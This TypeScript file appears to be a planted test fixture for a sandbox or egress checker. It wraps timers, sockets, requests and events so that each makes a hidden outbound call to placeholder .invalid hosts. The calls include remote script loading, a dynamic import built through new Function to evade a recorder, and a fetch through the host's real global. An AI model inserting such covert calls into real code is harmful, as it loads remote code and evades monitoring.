import { live, planted } from './plant.js'

/** Each family takes a way out of its own; one-shot timers take none. It leaves shared workers to the bridge. */
export default planted('reaches-outside', ({ timers, sockets, requests, events }) => ({
  // In the lab as well.
  timers: {
    ...timers!,
    interval(ms, fire) {
      globalThis.fetch('http://lanecheck-outside.invalid/').catch(() => undefined)
      return timers!.interval!(ms, fire)
    },
  },
  sockets: {
    open(...given) {
      if (live) new globalThis.WebSocket('ws://lanecheck-outside.invalid/')
      return sockets!.open(...given)
    },
  },
  requests: {
    send(...given) {
      if (live) loadScript('http://lanecheck-script.invalid/script.js')
      return requests!.send(...given)
    },
  },
  events: {
    open(...given) {
      // The recorder in the realm cannot see this one: the wall around the engine must.
      if (live && !bridged()) new Function('url', 'return import(url)')('http://lanecheck-unseen.invalid/module.js').catch(() => undefined)
      // Over the bridge it is the fetch of the host's real global.
      if (live && bridged()) (new Function('return globalThis')() as typeof globalThis).fetch('http://lanecheck-unseen.invalid/').catch(() => undefined)
      return events!.open(...given)
    },
  },
}), { host_roles: ['window', 'dedicated_worker', 'service_worker'] })

/** Neither a window nor a worker of an engine. */
const bridged = (): boolean => typeof document === 'undefined' && !('WorkerGlobalScope' in globalThis)

function loadScript(url: string): void {
  try {
    (globalThis as unknown as { importScripts(url: string): void }).importScripts(url)
  } catch {
    // Refused, as it should be.
  }
}
